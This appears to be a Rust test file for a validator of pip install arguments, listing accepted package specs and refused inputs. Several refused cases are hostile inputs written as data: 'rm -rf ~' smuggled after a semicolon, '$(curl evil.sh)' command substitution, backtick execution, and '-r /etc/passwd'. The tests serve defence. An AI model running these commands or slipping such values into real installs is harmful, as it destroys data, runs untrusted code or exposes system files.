use super::*;
use rstest::rstest;

fn problems(s: &str) -> Vec<(&'static str, usize)> {
    let args = split(s).expect("splittable");
    check(&args).0.into_iter().map(|p| (p.code, p.arg_index)).collect()
}

#[rstest]
#[case("setuptools wheel ipykernel nbformat==5.0.2 xarray[complete]")]
#[case("numpy>=1.2,<2")]
#[case("'numpy >= 1.2, < 2'")]
#[case("torchvision torchaudio --index-url https://download.pytorch.org/whl/cpu")]
#[case("--index-url=https://example.org/simple x")]
#[case("-ihttps://example.org/simple x")]
#[case("-i http://mirror.local/simple x --extra-index-url https://pypi.org/simple")]
#[case("--pre -U --no-deps --prefer-binary --no-build-isolation --no-cache-dir x")]
#[case("--only-binary :all: --no-binary numpy,scipy x")]
#[case("--trusted-host mirror.local:8080 --upgrade-strategy only-if-needed x")]
#[case("-f https://download.pytorch.org/whl/torch_stable.html torch")]
#[case("'mypkg @ https://example.org/mypkg-1.0-py3-none-any.whl'")]
#[case("mypkg@https://example.org/mypkg-1.0.tar.gz")]
#[case("'a[x, y]~=1.0' b===2 c!=3.*")]
fn accepted(#[case] s: &str) {
    assert_eq!(problems(s), vec![], "{s}");
}

#[rstest]
#[case("numpy; rm -rf ~", "pip-shell-syntax", 0)]
#[case("numpy '$(curl evil.sh)'", "pip-shell-syntax", 1)]
#[case("x '`id`'", "pip-shell-syntax", 1)]
#[case("a '|' b", "pip-shell-syntax", 1)]
#[case("'a\nb'", "pip-shell-syntax", 0)]
#[case("x '>/tmp/out'", "pip-shell-syntax", 1)]
#[case("x '<in'", "pip-shell-syntax", 1)]
#[case("-r /etc/passwd", "pip-forbidden-option", 0)]
#[case("--requirement=/etc/passwd", "pip-forbidden-option", 0)]
#[case("-c c.txt x", "pip-forbidden-option", 0)]
#[case("-e ../pkg", "pip-forbidden-option", 0)]
#[case("--target /tmp/x numpy", "pip-forbidden-option", 0)]
#[case("numpy --prefix /opt", "pip-forbidden-option", 1)]
#[case("numpy --root /", "pip-forbidden-option", 1)]
#[case("numpy --user", "pip-forbidden-option", 1)]
#[case("numpy --cache-dir /tmp/c", "pip-forbidden-option", 1)]
#[case("numpy --quiet", "pip-unknown-option", 1)]
#[case("numpy --index-url", "pip-missing-value", 1)]
#[case("numpy --index-url --pre", "pip-missing-value", 1)]
#[case("numpy --index-url ftp://x", "pip-bad-option-value", 2)]
#[case("numpy --find-links ./wheels", "pip-bad-option-value", 2)]
#[case("numpy --upgrade-strategy always", "pip-bad-option-value", 2)]
#[case("numpy --pre=1", "pip-bad-option-value", 1)]
#[case("./pkg", "pip-local-path", 0)]
#[case("../pkg", "pip-local-path", 0)]
#[case("/abs/pkg.whl", "pip-local-path", 0)]
#[case("~/pkg", "pip-local-path", 0)]
#[case("file:///tmp/x.whl", "pip-local-path", 0)]
#[case("dist/x-1.0.tar.gz", "pip-local-path", 0)]
#[case("https://example.org/x.whl", "pip-bad-requirement", 0)]
#[case("mypkg @ https://example.org/x.whl", "pip-bad-requirement", 1)]
#[case("'mypkg @ ftp://example.org/x.whl'", "pip-bad-requirement", 0)]
#[case("numpy==", "pip-bad-requirement", 0)]
#[case("'numpy=>1'", "pip-bad-requirement", 0)]
#[case("-é", "pip-unknown-option", 0)]
fn refused(#[case] s: &str, #[case] code: &str, #[case] index: usize) {
    let got = problems(s);
    assert!(got.contains(&(code, index)), "{s:?}: got {got:?}");
}

#[test]
fn refused_option_does_not_report_its_value_twice() {
    assert_eq!(problems("-r /etc/passwd"), vec![("pip-forbidden-option", 0)]);
}

#[test]
fn options_alone_install_nothing() {
    let (problems, has_requirement) = check(&split("--pre --index-url https://x.org/simple").unwrap_or_default());
    assert!(problems.is_empty());
    assert!(!has_requirement);
}

#[test]
fn unbalanced_quote_does_not_split() {
    assert_eq!(split("numpy 'scipy"), None);
}
